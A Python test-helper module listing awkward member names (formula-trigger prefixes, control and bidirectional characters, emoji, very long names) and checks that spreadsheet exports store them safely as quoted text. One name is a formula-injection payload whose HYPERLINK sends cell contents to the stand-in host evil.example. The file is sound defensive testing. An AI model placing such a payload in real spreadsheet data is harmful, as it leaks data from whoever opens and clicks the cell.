"""Names a person might type that a spreadsheet would run or an XML file cannot hold, and the
checks every export of them must pass (the results and ladder workbooks, the member lists).

Every name starts differently and none is part of another, so each is found in a cell by
itself.  They hold only what a database can store and a session file may carry (a NUL or a
lone surrogate is refused when a session is read: tests/app/test_backup.py; the cell writer
drops them too, tests/printing/test_cells.py).  ``HOSTILE_TEXT`` adds a name longer than a
member's, for the session documents.
"""

import re

XML_FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
RUNS = ("=", "+", "-", "@", "\t", "\r")     # what a spreadsheet takes for a formula

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click") Ann',
    "=1+1 Bob",
    "+1+1 Cy",
    "-2+3 Dee",
    "@SUM(A1:A9) Eve",
    "\tTab Fay",
    "\rReturn Gus",
    "Ctl\u0001 & \ufffe\uffff Hal",
    "\u202eIvy reversed\u202c \u200fمرحبا\u200e",
    "Jon 🂡🃏 👩‍👩‍👧 emoji",
    "<Kay> & \"Lou\" 'quoted'",
    "'=Max already quoted",
    ("Ned " + "very long " * 12)[:120],         # a member's longest name
]
HOSTILE_TEXT = HOSTILE + ["Pat " + "long " * 2000]


def shown(name: str) -> str:
    """What a cell shows for ``name``: the name without the characters XML forbids."""
    return XML_FORBIDDEN.sub("", name)


def text_cells(book):
    """Every cell of an openpyxl workbook that holds text (a formula too)."""
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    yield ws.title, cell


def check_names_are_text(book, names) -> None:
    """Each name is in the workbook, as text, and no formula holds one; a text that would
    run when typed keeps Excel's quote prefix."""
    wanted = {shown(n) for n in names}
    found = set()
    for title, cell in text_cells(book):
        assert not XML_FORBIDDEN.search(cell.value), (title, cell.coordinate)
        holds = {n for n in wanted if n.strip() and n.strip() in cell.value}
        found |= holds
        if cell.data_type == "f":
            assert not holds, (title, cell.coordinate, cell.value)
            continue
        assert cell.data_type == "s", (title, cell.coordinate, cell.value)
        if cell.value.startswith(RUNS):
            assert cell.quotePrefix, (title, cell.coordinate, cell.value)
    assert found == {n for n in wanted if n.strip()}, wanted - found
